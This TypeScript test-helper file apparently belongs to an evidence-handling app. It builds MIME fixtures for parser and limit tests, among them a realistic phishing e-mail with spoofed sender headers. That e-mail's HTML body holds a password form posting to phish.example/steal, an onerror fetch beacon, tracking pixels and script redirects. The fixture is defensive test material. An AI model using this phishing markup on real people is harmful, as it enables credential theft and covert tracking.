import { startWorker } from '../jobs/index.ts';
import { silentLogger } from '../lib/logger.ts';
import { configureEvidenceContent, evidenceStore } from '../modules/evidence/index.ts';
import type { MessageLimits } from '../modules/evidence/message/limits.ts';
import type { ThumbnailLimits } from '../modules/evidence/thumbnail/limits.ts';
import type { TestEnv } from './harness.ts';

/** A 1x1 PNG: the smallest capture there is. */
export const PNG_1X1 = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8/5+hHgAHggJ/PchI7wAAAABJRU5ErkJggg==',
  'base64',
);

/**
 * Uploads bytes as evidence of a case through the API, as a raw body with its name in
 * Content-Disposition; answers the response (status, parsed body, headers).
 */
export async function uploadEvidence(
  env: TestEnv,
  number: number,
  bytes: Buffer | string,
  {
    who = 'investigator',
    name = 'capture.png',
    type = 'application/octet-stream',
    query = '',
    headers = {},
  }: {
    who?: keyof TestEnv['members'];
    name?: string;
    type?: string;
    query?: string;
    headers?: Record<string, string>;
  } = {},
) {
  const res = await env.app.inject({
    method: 'POST',
    url: `/api/v1/cases/${number}/evidence${query}`,
    headers: {
      authorization: `Bearer ${env.members[who].token}`,
      'content-type': type,
      'content-disposition': `attachment; filename*=UTF-8''${encodeURIComponent(name)}`,
      ...headers,
    },
    payload: bytes,
  });
  const json = (res.headers['content-type'] ?? '').toString().includes('json');
  return {
    status: res.statusCode,
    body: (json ? res.json() : res.body) as Record<string, any>,
    headers: res.headers,
  };
}

/**
 * Runs every due job to its end with a worker of the test's own, the evidence content jobs
 * (e-mail parsing, thumbnails) reading and writing the test's evidence store.
 */
export async function runEvidenceJobs(
  env: TestEnv,
  limits: { message?: Partial<MessageLimits>; thumbnail?: Partial<ThumbnailLimits> } = {},
): Promise<void> {
  configureEvidenceContent({ store: evidenceStore(env.config), ...limits });
  const worker = startWorker({
    db: env.db,
    clock: env.clock,
    log: silentLogger,
    concurrency: 2,
    pollSeconds: 60,
    retryBaseSeconds: 0,
    retryCapSeconds: 0,
    stopSeconds: 15,
  });
  await worker.idle();
  await worker.stop();
}

/** Text as quoted-printable (RFC 2045): UTF-8, `=` and non-ASCII escaped, soft breaks at 76. */
export function quotedPrintable(text: string): string {
  return text
    .split('\n')
    .map((line) => {
      const escaped = [...Buffer.from(line, 'utf8')]
        .map((b) =>
          b === 0x3d || b > 0x7e || (b < 0x20 && b !== 0x09)
            ? `=${b.toString(16).toUpperCase().padStart(2, '0')}`
            : String.fromCharCode(b),
        )
        .join('');
      const out: string[] = [];
      let rest = escaped;
      while (rest.length > 75) {
        let at = 75;
        // Never split an escape.
        if (rest[at - 1] === '=') at -= 1;
        else if (rest[at - 2] === '=') at -= 2;
        out.push(`${rest.slice(0, at)}=`);
        rest = rest.slice(at);
      }
      out.push(rest);
      return out.join('\r\n');
    })
    .join('\r\n');
}

/** Base64 in lines of 76, as mail carries it. */
export const base64Lines = (bytes: Buffer) =>
  (bytes.toString('base64').match(/.{1,76}/g) ?? []).join('\r\n');

/** The bytes of the phishing mail's attachment: the start of a PDF. */
export const INVOICE_PDF = Buffer.from(
  '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
  'latin1',
);

/** The phishing mail's HTML body: everything a viewer must not run or load. */
export const PHISHING_HTML = `<html><head>
<meta http-equiv="refresh" content="0; url=https://phish.example/auto">
<base href="https://phish.example/">
<style>body { background: url(https://tracker.example/bg.png); } @import url("https://tracker.example/x.css");</style>
</head><body>
<img src="cid:logo-7f3a@corp-mail.example" alt="Corp logo">
<p>Dear colleague, your mailbox is almost full. Payment of €1 240,00 is overdue.</p>
<img src="https://tracker.example/open.gif?u=42" width="1" height="1" onerror="fetch('https://tracker.example/e')">
<div style="background-image: url('https://tracker.example/div.png'); color: #333">Act now</div>
<form action="https://phish.example/steal" method="post"><input name="password" type="password"><button>Sign in</button></form>
<script>document.location = 'https://phish.example/run'</script>
<a href="https://phish.example/login" onclick="steal()">Keep my mailbox</a>
</body></html>`;

/**
 * A realistic phishing e-mail: multipart/mixed with a multipart/related holding the
 * text and HTML alternatives (quoted-printable) and an inline logo (cid:), and a PDF invoice.
 */
export function phishingEml(): string {
  const text =
    'Dear colleague,\n\nyour mailbox is almost full. Payment of €1 240,00 is overdue: keep your mailbox at https://phish.example/login before the end of the day.\n\nIT Service Desk';
  return [
    'Return-Path: <bounce@phish.example>',
    'Received: from mail.phish.example (mail.phish.example [203.0.113.7])',
    '\tby mx.corp.example with ESMTPS id 4Zk2; Mon, 2 Mar 2026 08:14:09 +0000',
    'From: "IT Service Desk" <it-support@corp-mail.example>',
    'Reply-To: helpdesk@phish.example',
    'To: Ana Analyst <ana@corp.example>, finance@corp.example',
    'Cc: =?UTF-8?Q?J=C3=BCrgen_M=C3=BCller?= <jurgen@corp.example>',
    'Subject: =?UTF-8?Q?Action_required:_mailbox_quota_=E2=80=93_invoice_overdue?=',
    'Date: Mon, 2 Mar 2026 09:14:03 +0100',
    'Message-ID: <20260302081403.4Zk2@mail.phish.example>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="mixed-b1"',
    '',
    'This is a multi-part message in MIME format.',
    '--mixed-b1',
    'Content-Type: multipart/related; boundary="related-b2"',
    '',
    '--related-b2',
    'Content-Type: multipart/alternative; boundary="alt-b3"',
    '',
    '--alt-b3',
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: quoted-printable',
    '',
    quotedPrintable(text),
    '--alt-b3',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: quoted-printable',
    '',
    quotedPrintable(PHISHING_HTML),
    '--alt-b3--',
    '--related-b2',
    'Content-Type: image/png',
    'Content-Transfer-Encoding: base64',
    'Content-ID: <logo-7f3a@corp-mail.example>',
    'Content-Disposition: inline; filename="logo.png"',
    '',
    base64Lines(PNG_1X1),
    '--related-b2--',
    '--mixed-b1',
    'Content-Type: application/pdf; name="Invoice 2026-0317.pdf"',
    'Content-Transfer-Encoding: base64',
    'Content-Disposition: attachment; filename="Invoice 2026-0317.pdf"',
    '',
    base64Lines(INVOICE_PDF),
    '--mixed-b1--',
    '',
  ].join('\r\n');
}

/** A message whose multiparts nest `depth` levels deep. */
export function nestedEml(depth: number): string {
  const head = ['From: a@example.com', 'To: b@example.com', 'Subject: Nested', 'MIME-Version: 1.0'];
  let body = 'Content-Type: text/plain\r\n\r\ninnermost\r\n';
  for (let i = depth; i > 0; i -= 1)
    body = `Content-Type: multipart/mixed; boundary="n${i}"\r\n\r\n--n${i}\r\n${body}--n${i}--\r\n`;
  return `${head.join('\r\n')}\r\n${body}`;
}

/** A message of `parts` small text parts. */
export function manyPartsEml(parts: number): string {
  const head = [
    'From: a@example.com',
    'To: b@example.com',
    'Subject: Many parts',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="p"',
    '',
  ];
  const body = Array.from(
    { length: parts },
    (_, i) => `--p\r\nContent-Type: text/plain\r\n\r\npart ${i}\r\n`,
  );
  return `${head.join('\r\n')}\r\n${body.join('')}--p--\r\n`;
}
